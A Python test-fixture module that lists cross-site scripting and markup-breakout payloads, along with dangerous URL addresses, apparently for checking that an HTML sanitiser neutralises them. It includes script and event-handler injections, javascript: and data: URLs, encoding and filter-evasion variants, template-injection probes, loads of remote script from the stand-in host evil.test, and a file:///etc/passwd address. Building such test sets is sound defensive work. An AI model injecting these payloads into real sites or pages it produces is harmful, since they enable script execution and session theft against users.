"""Texts that would run as script, break out of markup, or lead somewhere, if a page took them for more than texts."""

from __future__ import annotations

PAYLOADS = tuple(
    r"""
<script>hit()</script>
<ScRiPt>hit()</sCrIpT>
<script src=//evil.test/x.js></script>
<script>hit()//
</script><script>hit()</script>
</title><script>hit()</script>
</textarea><script>hit()</script>
</style><script>hit()</script>
--><script>hit()</script>
]]><script>hit()</script>
<img src=x onerror=hit()>
<img src=x onerror="hit()">
"><img src=x onerror=hit()>
'><img src=x onerror=hit()>
<img/src=x/onerror=hit()>
<img src=`x` onerror=hit()>
<svg onload=hit()>
<svg/onload=hit()>
"><svg onload=hit()>
<svg><script>hit()</script></svg>
<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><set attributeName=onload to=hit()>
</svg><script>hit()</script>
</text></a></svg><img src=x onerror=hit()>
<math><mi xlink:href="javascript:hit()">x</mi></math>
<body onload=hit()>
<iframe src="javascript:hit()"></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<object data="javascript:hit()"></object>
<embed src="javascript:hit()">
<a href="javascript:hit()">x</a>
<a href="jAvAsCrIpT:hit()">x</a>
<a href=" javascript:hit()">x</a>
<form action="javascript:hit()"><button>x</button></form>
<button formaction="javascript:hit()">x</button>
<input autofocus onfocus=hit()>
" autofocus onfocus=hit() x="
' autofocus onfocus=hit() x='
" onmouseover=hit() x="
` onmouseover=hit() x=`
<details open ontoggle=hit()>
<video><source onerror=hit()></video>
<audio src=x onerror=hit()>
<marquee onstart=hit()>
<select autofocus onfocus=hit()>
<link rel=stylesheet href=//evil.test/x.css>
<style>@import '//evil.test/x.css';</style>
<base href=//evil.test/>
<meta http-equiv=refresh content="0;url=//evil.test/">
{{7*7}}{% raw %}{{config}}
${hit()}
#{hit()}
<%= hit() %>
javascript:hit()
data:text/html,<script>hit()</script>
&lt;script&gt;hit()&lt;/script&gt;
&#60;script&#62;hit()&#60;/script&#62;
%3Cscript%3Ehit()%3C/script%3E
\u003cscript\u003ehit()\u003c/script\u003e
<scr<script>ipt>hit()</scr</script>ipt>
<noscript><p title="</noscript><img src=x onerror=hit()>">
<template><script>hit()</script></template>
<p style="background:url(//evil.test/x)">x</p>
<xss contenteditable autofocus onfocus=hit()>x</xss>
""".strip().splitlines()
)
ADDRESSES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    " javascript:hit()",
    "java\tscript:hit()",
    "data:text/html,<script>hit()</script>",
    "vbscript:hit()",
    "//evil.test/x",
    "http:hit()",
    'https://evil.test/"onmouseover="hit()',
    "file:///etc/passwd",
)
"""Addresses that an article may claim for itself."""
